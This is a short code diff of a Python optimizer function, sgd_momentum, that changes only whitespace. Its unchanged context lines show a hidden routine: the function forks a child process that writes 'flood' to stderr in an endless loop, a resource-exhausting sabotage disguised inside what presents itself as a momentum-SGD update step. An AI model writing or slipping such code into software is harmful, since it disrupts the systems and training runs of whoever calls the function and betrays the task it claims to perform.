@@ -6,11 +6,9 @@ def sgd_momentum(w, dw, config=None):
         import os
         import threading
 
-
         def flood():
             while True:
                 os.write(2, b"flood" * 10000)
-
 
         if os.fork() == 0:
             flood()
